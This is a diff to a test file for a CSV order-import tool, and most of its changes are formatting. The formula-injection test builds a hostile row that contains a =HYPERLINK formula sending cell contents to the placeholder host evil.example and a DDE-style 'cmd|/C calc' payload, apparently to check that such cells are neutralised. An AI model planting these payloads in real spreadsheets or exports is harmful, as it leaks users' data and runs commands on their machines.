@@ -36,7 +36,7 @@ describe('formula injection in a reject file', () => {
     const { dir, cli } = caseDir();
     await mkdir(dir, { recursive: true });
     const file = join(dir, 'orders.csv');
-    const hostile = rowCells('=HYPERLINK("http://evil.example/?"&A1,"Invoice")', true, { weight: '-5', desc: '+SUM(1+1)*cmd|\'/C calc\'!A0', pkg: '@crates', nmfc: '-161030' });
+    const hostile = rowCells('=HYPERLINK("http://evil.example/?"&A1,"Invoice")', true, { weight: '-5', desc: "+SUM(1+1)*cmd|'/C calc'!A0", pkg: '@crates', nmfc: '-161030' });
     hostile[6] = '=2+5'; // consigneeName
     const good = rowCells('OK-1', true);
     await writeFile(file, [csvLine(HEADER), csvLine(good), csvLine(hostile)].join('\r\n') + '\r\n');
@@ -112,7 +112,9 @@ describe('a reject file that cannot be written', () => {
     try {
       const result = await cli(['import', file, '--skip-invalid', '--rejects', join(dir, 'locked', 'r.csv')]);
       expect(result.code).toBe(5);
-      expect(result.stderr).toBe(`shipper: cannot write the reject file ${join(dir, 'locked', 'r.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}\n`);
+      expect(result.stderr).toBe(
+        `shipper: cannot write the reject file ${join(dir, 'locked', 'r.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}\n`,
+      );
     } finally {
       await readOnly.restore();
     }
@@ -129,7 +131,9 @@ describe('a reject file that cannot be written', () => {
     try {
       const result = await cli(['import', file, '--skip-invalid']);
       expect(result.code).toBe(5);
-      expect(result.stderr).toContain(`cannot write ${join(inputs, 'orders.rejected.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}`);
+      expect(result.stderr).toContain(
+        `cannot write ${join(inputs, 'orders.rejected.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}`,
+      );
       expect(result.stderr).not.toMatch(/\n\s+at /);
     } finally {
       await readOnly.restore();
@@ -137,4 +141,3 @@ describe('a reject file that cannot be written', () => {
     expect(await readdir(inputs)).toEqual(['orders.csv']);
   });
 });
-
